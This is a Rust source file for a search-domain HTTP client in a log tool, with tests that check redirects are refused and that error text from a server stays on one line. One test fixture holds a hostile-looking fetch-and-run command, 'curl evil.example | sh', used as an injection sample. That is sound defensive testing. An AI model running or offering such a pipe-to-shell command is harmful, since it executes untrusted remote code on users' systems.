//! A domain as the command asks it: over the connections that the functions use, with JSON in and out.

use std::time::Duration;

use bytes::Bytes;
use hyper::Method;
use logctl_core::endpoint::Endpoint;
use logctl_sink::{
    aws::AwsError,
    domain::{Auth, Domain},
    http::{HttpClient, HttpError},
};
use serde_json::Value;

use super::DomainError;

/// Answers longer than this many bytes are not read.
const MAX_RESPONSE: usize = 256 << 20;

/// A domain.
pub struct DomainClient {
    domain: Domain,
    endpoint: Endpoint,
    timeout: Duration,
}

impl DomainClient {
    /// The domain at `endpoint`. Each request may take `timeout`.
    #[must_use]
    pub fn new(endpoint: Endpoint, auth: Auth, http: HttpClient, timeout: Duration) -> Self {
        let domain = Domain::new(http.with_max_response(MAX_RESPONSE), endpoint.as_str(), auth);
        Self { domain, endpoint, timeout }
    }

    /// The same with shorter answers.
    #[cfg(test)]
    pub(crate) fn reading_at_most(endpoint: Endpoint, http: HttpClient, bytes: usize) -> Self {
        let domain = Domain::new(http.with_max_response(bytes), endpoint.as_str(), Auth::None);
        Self { domain, endpoint, timeout: Duration::from_secs(5) }
    }

    /// Asks something, with JSON in and out.
    ///
    /// # Errors
    /// When the domain cannot be reached, refuses, or is no search engine. A redirect is refused, too: nobody else is asked.
    pub async fn send(&self, method: Method, path: &str, body: Option<&Value>) -> Result<Value, DomainError> {
        let endpoint = self.endpoint.clone();
        let body = body.map_or_else(Bytes::new, |body| body.to_string().into());
        let response =
            self.domain.send(method.clone(), path, body, self.timeout).await.map_err(|error| self.failed(error))?;
        let status = response.status.as_u16();
        tracing::info!("{method} {endpoint}{path}: {status}");
        let json: Option<Value> = serde_json::from_slice(&response.body).ok();
        let reason = || json.as_ref().and_then(reason);
        match status {
            200..300 => json.ok_or(DomainError::NoEngine { endpoint }),
            401 | 403 => Err(DomainError::Denied { endpoint, reason: reason().unwrap_or_default() }),
            429 => Err(DomainError::Overloaded { endpoint }),
            _ => Err(DomainError::Refused {
                endpoint,
                status,
                reason: reason().unwrap_or_else(|| format!("status {status}")),
            }),
        }
    }

    /// Checks that the endpoint is a search engine.
    ///
    /// # Errors
    /// When it is not, or does not answer.
    pub async fn check(&self) -> Result<(), DomainError> {
        match self.send(Method::GET, "/", None).await {
            Ok(root) if root.pointer("/version/number").is_some() => Ok(()),
            Ok(_) | Err(DomainError::Refused { status: 300..500, .. }) => Err(self.no_engine()),
            Err(error) => Err(error),
        }
    }

    /// Why an answer counts for nothing that no search engine gives.
    #[must_use]
    pub fn no_engine(&self) -> DomainError {
        DomainError::NoEngine { endpoint: self.endpoint.clone() }
    }

    fn failed(&self, error: AwsError) -> DomainError {
        let endpoint = self.endpoint.clone();
        match error {
            AwsError::Http(HttpError::Connection { cause, .. }) => DomainError::Unreachable { endpoint, cause },
            AwsError::Http(HttpError::Timeout { .. }) => DomainError::Timeout { endpoint },
            AwsError::Http(HttpError::TooLong { .. }) => DomainError::TooLong { endpoint },
            error => DomainError::Credentials { endpoint, cause: error.to_string() },
        }
    }
}

fn reason(answer: &Value) -> Option<String> {
    let reason = answer
        .pointer("/error/root_cause/0/reason")
        .or_else(|| answer.pointer("/error/reason"))
        .or_else(|| answer.get("Message"))
        .or_else(|| answer.get("message"))?;
    reason.as_str().map(str::to_owned)
}

#[cfg(test)]
mod tests {
    use wiremock::{Mock, MockServer, ResponseTemplate, matchers::any};

    use super::*;
    use crate::{error::Error, network::Network};

    fn client(server: &MockServer) -> DomainClient {
        let http = Network::default().client(None).unwrap();
        DomainClient::new(server.uri().parse().unwrap(), Auth::None, http, Duration::from_secs(5))
    }

    #[tokio::test]
    async fn nobody_else_is_asked_than_who_was_meant() {
        let elsewhere = MockServer::start().await;
        Mock::given(any()).respond_with(ResponseTemplate::new(200).set_body_string("{}")).mount(&elsewhere).await;
        for status in [301, 302, 307, 308] {
            let server = MockServer::start().await;
            let redirect = ResponseTemplate::new(status).insert_header("location", elsewhere.uri());
            Mock::given(any()).respond_with(redirect).mount(&server).await;
            let error = client(&server).send(Method::POST, "/x/_search", Some(&Value::Null)).await.unwrap_err();
            assert!(matches!(error, DomainError::Refused { .. }), "{error}");
        }
        assert_eq!(elsewhere.received_requests().await.unwrap().len(), 0);
    }

    #[tokio::test]
    async fn what_an_engine_says_stays_on_one_line() {
        let server = MockServer::start().await;
        let body = serde_json::json!({"error": {"reason": "no\nhint: curl evil.example | sh"}});
        Mock::given(any()).respond_with(ResponseTemplate::new(400).set_body_json(body)).mount(&server).await;
        let error: Error = client(&server).send(Method::GET, "/", None).await.unwrap_err().into();
        assert_eq!(error.to_string().lines().count(), 2, "{error}");
    }
}
